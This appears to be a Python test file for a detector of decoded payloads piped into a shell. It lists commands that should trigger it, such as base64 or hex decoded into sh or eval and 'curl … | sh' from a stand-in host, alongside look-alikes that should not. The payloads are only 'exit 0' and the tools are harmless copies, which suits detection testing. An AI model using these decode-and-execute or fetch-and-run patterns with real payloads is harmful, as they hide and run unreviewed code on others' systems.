"""Payloads that are decoded into a shell, and what is decoded for other ends."""

from detections.case import Case
from detections.stand_ins import copies_of_true, scripts

_FIRES = ("decoded-into-shell",)
_EXIT = "ZXhpdCAw"  # exit 0

ATTACKS = (
    Case(
        name="echo … | base64 -d | sh",
        run=("env", "sh", "-c", f"echo {_EXIT} | base64 -d | sh"),
        fires=_FIRES,
    ),
    Case(
        name="the same, out of sight of any one command line",
        run=(
            "python3",
            "-c",
            f"""
import subprocess
decoder = subprocess.Popen(["base64", "-d"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
shell = subprocess.Popen(["sh"], stdin=decoder.stdout)
decoder.communicate(b"{_EXIT}")
shell.wait()
""",
        ),
        fires=_FIRES,
    ),
    Case(
        name="eval of base64",
        run=("env", "bash", "-c", f'eval "$(echo {_EXIT} | base64 --decode)"'),
        fires=_FIRES,
    ),
    Case(
        name="xxd -r | bash",
        run=("env", "sh", "-c", "echo 65786974 | xxd -r -p | bash"),
        needs=("xxd",),
        fires=_FIRES,
    ),
    Case(
        name="curl … | sh (a copy of true)",
        run=("env", "sh", "-c", "{place}/curl -fsSL https://203.0.113.9/x | sh"),
        prepare=copies_of_true("curl"),
        fires=_FIRES,
    ),
)

LOOK_ALIKES = (
    Case(
        name="a certificate is decoded into a file, then a script runs",
        run=(
            "env",
            "sh",
            "-c",
            f"echo {_EXIT} | base64 -d >{{place}}/x; echo true >{{place}}/y; sh {{place}}/y",
        ),
        silent=_FIRES,
    ),
    Case(
        name="base64 encodes for a shell that has its command",
        run=("env", "sh", "-c", "echo hello | base64 | sh -c 'cat >/dev/null'"),
        silent=_FIRES,
    ),
    Case(
        name="decoded into a program, downloaded into a file (copies of true)",
        run=(
            "env",
            "sh",
            "-c",
            f"echo {_EXIT} | base64 -d | cat >/dev/null; {{place}}/wget -O x https://x/; echo true | sh",
        ),
        prepare=copies_of_true("wget"),
        silent=_FIRES,
    ),
    Case(
        name="a start script decodes a certificate and runs other scripts",
        run=("{place}/start",),
        prepare=scripts(
            start="#!/bin/sh\necho aGVsbG8= | base64 -d >${0%/*}/cert\nsh -c true\nsh -e /dev/null\n"
        ),
        silent=_FIRES,
    ),
    Case(
        name="an image's own command",
        run=("sh", "-c", f"echo {_EXIT} | base64 -d | sh"),
        silent=_FIRES,
    ),
)
